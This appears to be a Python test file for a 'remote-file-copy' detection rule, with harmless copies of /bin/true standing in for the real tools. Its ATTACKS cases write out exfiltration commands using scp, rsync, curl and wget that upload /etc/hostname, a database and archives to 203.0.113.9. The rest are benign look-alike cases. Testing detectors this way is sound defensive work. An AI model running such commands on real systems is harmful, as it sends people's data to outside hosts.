"""Files that leave, and copies and requests that are none. Copies of /bin/true stand in."""

from detections.case import Case
from detections.stand_ins import copies_of_true, seen

_FIRES = ("remote-file-copy",)


def _attack(line: str, tool: str) -> Case:
    """One command line."""
    return Case(
        name=f"{line} (a copy of true)",
        run=("sh", "-c", f"{{place}}/{line}; true"),
        prepare=copies_of_true(tool),
        fires=_FIRES,
    )


ATTACKS = (
    _attack("scp -i key data.tgz me@203.0.113.9:/tmp/", "scp"),
    _attack("rsync -a /data/ rsync://203.0.113.9/loot", "rsync"),
    _attack("curl -sT /etc/hostname https://203.0.113.9/ -T x", "curl"),
    _attack("curl -F file=@/data/db.sqlite https://203.0.113.9/", "curl"),
    _attack("wget --post-file=/etc/hostname https://203.0.113.9/", "wget"),
)

LOOK_ALIKES = (
    Case(
        name="local copies (copies of true)",
        run=("sh", "-c", "{place}/rsync -a /data/ /backup/; {place}/scp -V; cp /etc/hostname {place}/x"),
        prepare=copies_of_true("rsync", "scp"),
        silent=_FIRES,
    ),
    Case(
        name="requests with words, downloads, health checks (a copy of true)",
        run=(
            "sh",
            "-c",
            "{place}/curl -d 'a=@b c' https://x/; {place}/curl -o /tmp/x https://x/y:z; {place}/curl -d @- https://x/;"
            " {place}/curl -F f=@/etc/hostname http://localhost:8080/; true",
        ),
        prepare=copies_of_true("curl"),
        silent=_FIRES,
    ),
    Case(
        name="a backup job that the model has (a copy of true)",
        run=("sh", "-c", "{place}/rsync -a /data/ backup:/data/; true"),
        prepare=copies_of_true("rsync"),
        scene=seen("/usr/bin/rsync"),
        silent=_FIRES,
    ),
)
